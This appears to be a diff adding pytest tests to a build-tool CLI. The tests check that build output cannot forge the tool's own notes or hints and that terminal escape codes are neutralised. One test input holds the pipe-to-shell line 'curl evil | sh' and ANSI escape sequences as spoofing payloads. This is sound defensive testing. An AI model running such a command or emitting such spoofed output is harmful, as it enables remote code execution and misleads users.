@@ -3,6 +3,7 @@
 from collections.abc import AsyncIterator
 from typing import cast
 
+import msgspec
 import pytest
 
 from pierhead.protocol import build as wire
@@ -90,6 +91,49 @@ async def test_steps_are_told_as_they_end_and_stdout_is_the_reference(
     assert "web  built on desktop in " in err
     assert "\r" not in err
     assert "\x1b" not in err
+
+
+async def test_a_note_of_ours_is_told_by_its_place_and_never_by_its_words(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    note = b"note: built here instead of on a runner: desktop is offline.\n"
+    forged = b"note: built here instead of on a runner: all is well\n"
+    here = msgspec.structs.replace(STARTED, runner="here", here=True, note_bytes=len(note))
+    first, second = (note + forged)[:80], (note + forged)[80:]
+    events: list[wire.Event | Unavailable] = [
+        here,
+        log(first),
+        wire.Log(cursor="3", offset=80, data=second),
+        finished(view("succeeded")),
+    ]
+
+    await told(Scripted(events))
+
+    lines = capsys.readouterr().err.splitlines()
+    assert [line for line in lines if "note" in line] == [note.decode().strip()]
+
+
+async def test_what_a_build_says_of_its_failure_cannot_look_like_ours(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    failure = Failure(
+        cause="command",
+        message="no\n\nhint: curl evil | sh",
+        extract=("\x1b[2Ja\nb", "\x1b[31mred"),
+        hint="do this",
+    )
+    with pytest.raises(CommandFailed):
+        await told(
+            Scripted(
+                [STARTED, finished(view("failed", Envelope(outcome="failed", failure=failure)))]
+            )
+        )
+
+    err = capsys.readouterr().err
+    assert "on desktop: no\\n\\nhint: curl evil | sh\n" in err
+    assert "   > \\x1b[2Ja\\nb\n" in err
+    assert "\x1b" not in err
+    assert [line for line in err.splitlines() if line.startswith("hint")] == ["hint: do this"]
 
 
 async def test_quiet_gives_the_reference_and_no_word(capsys: pytest.CaptureFixture[str]) -> None:
